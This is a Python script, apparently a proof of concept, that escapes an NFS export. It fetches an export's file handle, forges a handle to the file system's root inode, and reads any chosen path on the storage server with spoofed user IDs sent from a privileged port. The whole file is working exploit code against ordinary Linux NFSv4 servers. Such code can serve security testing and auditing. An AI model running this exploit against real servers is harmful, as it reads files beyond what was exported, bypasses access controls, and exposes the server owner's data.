#!/usr/bin/python3
"""What root on a member can reach of a storage's file system beyond what is exported to it: a file handle is made up, and walked on from.

usage: guess-handle.py STORAGE EXPORT UID PATH

Asks for the handle of EXPORT, as any client may, makes of it that of the root folder of the file system that EXPORT is in (inode 2 of an ext4, whatever its generation:
fs/nfsd/nfsfh.h and FILEID_INO32_GEN in include/linux/exportfs.h of Linux), and reads PATH from there, as user UID. Prints what is in it, or the error of NFS (RFC 7530, section 13).
"""

import os
import socket
import struct
import sys

PUTROOTFH, LOOKUP, GETFH, PUTFH, READ = 24, 15, 10, 22, 25
ERRORS = {1: 'NFS4ERR_PERM', 2: 'NFS4ERR_NOENT', 13: 'NFS4ERR_ACCESS', 20: 'NFS4ERR_NOTDIR', 70: 'NFS4ERR_STALE', 10001: 'NFS4ERR_BADHANDLE'}
WHOLE_EXPORT, INODE_AND_GENERATION = 0, 1


class Refused(Exception):
    pass


def opaque(data):
    return struct.pack('>I', len(data)) + data + b'\0' * (-len(data) % 4)


class Storage:
    def __init__(self, address, uid):
        self.uid = uid
        # "secure": a port below 1024 tells that root asks.
        for port in range(700, 1000):
            self.socket = socket.socket()
            self.socket.settimeout(20)
            try:
                self.socket.bind(('', port))
                break
            except OSError:
                self.socket.close()
        self.socket.connect((address, 2049))
        self.xid = 0

    def compound(self, *operations):
        """The last operation's result."""
        self.xid += 1
        who = struct.pack('>I', 0) + opaque(b'guess') + struct.pack('>III', self.uid, self.uid, 0)
        call = struct.pack('>IIIIII', self.xid, 0, 2, 100003, 4, 1) + struct.pack('>I', 1) + opaque(who) + struct.pack('>II', 0, 0)
        call += opaque(b'') + struct.pack('>II', 0, len(operations)) + b''.join(struct.pack('>I', number) + args for number, args in operations)
        self.socket.sendall(struct.pack('>I', 0x80000000 | len(call)) + call)
        answer = b''
        last = False
        while not last:
            (mark,) = struct.unpack('>I', self.exactly(4))
            last = bool(mark & 0x80000000)
            answer += self.exactly(mark & 0x7fffffff)
        return self.result(answer, len(operations))

    def exactly(self, count):
        data = b''
        while len(data) < count:
            more = self.socket.recv(count - len(data))
            if not more:
                raise SystemExit('the storage hung up')
            data += more
        return data

    def result(self, answer, count):
        _xid, _reply, stat, _flavor, length, accepted = struct.unpack_from('>IIIIII', answer)
        if stat or accepted or length:
            raise SystemExit('no RPC answer: %r' % answer)
        status, tag = struct.unpack_from('>II', answer, 24)
        if status:
            raise Refused(ERRORS.get(status, 'error %d' % status))
        # Every operation before the last one gives its number and its status alone.
        return answer[24 + 8 + tag + 4 + 8 * count:]


def lookups(path):
    return [(LOOKUP, opaque(os.fsencode(part))) for part in path.split('/') if part]


def main():
    address, export, uid, path = sys.argv[1:]
    storage = Storage(address, int(uid))
    try:
        found = storage.compound((PUTROOTFH, b''), *lookups(export), (GETFH, b''))
        handle = found[4:4 + struct.unpack_from('>I', found)[0]]
        if handle[3] != WHOLE_EXPORT:
            raise SystemExit('%s is no export of its own: %s' % (export, handle.hex()))
        guessed = handle[:3] + bytes([INODE_AND_GENERATION]) + handle[4:] + struct.pack('<II', 2, 0)
        read = storage.compound((PUTFH, opaque(guessed)), *lookups(path), (READ, b'\0' * 16 + struct.pack('>QI', 0, 4096)))
        length = struct.unpack_from('>I', read, 4)[0]
        print(read[8:8 + length].decode(), end='')
    except Refused as error:
        print(error)


if __name__ == '__main__':
    main()
